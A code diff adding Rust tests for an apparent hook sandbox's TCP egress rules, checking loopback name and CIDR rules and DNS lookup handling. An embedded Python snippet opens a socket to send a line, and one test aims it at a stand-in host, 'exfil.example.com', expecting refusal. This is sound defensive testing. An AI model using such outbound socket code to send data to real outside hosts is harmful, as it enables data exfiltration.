@@ -448,3 +448,75 @@ async fn curl_fail_turns_an_http_error_into_exit_22() {
         outcome.stderr
     );
 }
+
+/// A TCP collector that returns what the first connection sent.
+async fn collector() -> (u16, tokio::task::JoinHandle<Vec<u8>>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let task = tokio::spawn(async move {
+        use tokio::io::AsyncReadExt;
+        let (mut stream, _) = listener.accept().await.unwrap();
+        let mut received = Vec::new();
+        stream.read_to_end(&mut received).await.unwrap();
+        received
+    });
+    (port, task)
+}
+
+fn send_line_to(host: &str, port: u16) -> String {
+    format!(
+        "import socket\n\
+         try:\n\
+         \x20   with socket.create_connection(('{host}', {port}), timeout=5) as s:\n\
+         \x20       s.sendall(b'<110>1 - hookbox - - - - hello\\n')\n\
+         \x20   print('sent')\n\
+         except OSError as e:\n\
+         \x20   print('refused:', e)\n"
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_socket_rule_name_is_looked_up_in_the_host() {
+    let (port, received) = collector().await;
+    // The name resolves to loopback, which only the CIDR rule may reach.
+    let name_rule = format!("tcp://localhost:{port}");
+    let cidr_rule = format!("tcp://127.0.0.0/8:{port}");
+    let outcome = TestHook::new(&send_line_to("localhost", port))
+        .run_allowing(&[&name_rule, &cidr_rule])
+        .await;
+    assert_eq!(outcome.stdout, "sent\n", "{outcome:?}");
+    let line = tokio::time::timeout(Duration::from_secs(5), received)
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(line, b"<110>1 - hookbox - - - - hello\n");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_socket_name_rule_alone_never_reaches_loopback() {
+    let (port, received) = collector().await;
+    let name_rule = format!("tcp://localhost:{port}");
+    let outcome = TestHook::new(&send_line_to("localhost", port))
+        .run_allowing(&[&name_rule])
+        .await;
+    assert!(outcome.stdout.starts_with("refused:"), "{outcome:?}");
+    assert!(outcome.stderr.contains("loopback"), "{}", outcome.stderr);
+    received.abort();
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn names_no_socket_rule_mentions_are_not_looked_up() {
+    let outcome = TestHook::new(&send_line_to("exfil.example.com", 514))
+        .run_allowing(&["tcp://10.1.2.3:514", "https://exfil.example.com"])
+        .await;
+    assert!(outcome.stdout.starts_with("refused:"), "{outcome:?}");
+    assert!(
+        outcome
+            .stdout
+            .contains("no tcp:// or udp:// rule names exfil.example.com"),
+        "{}",
+        outcome.stdout
+    );
+    assert_eq!(outcome.egress[0].scheme, "dns");
+    assert!(!outcome.egress[0].allowed);
+}
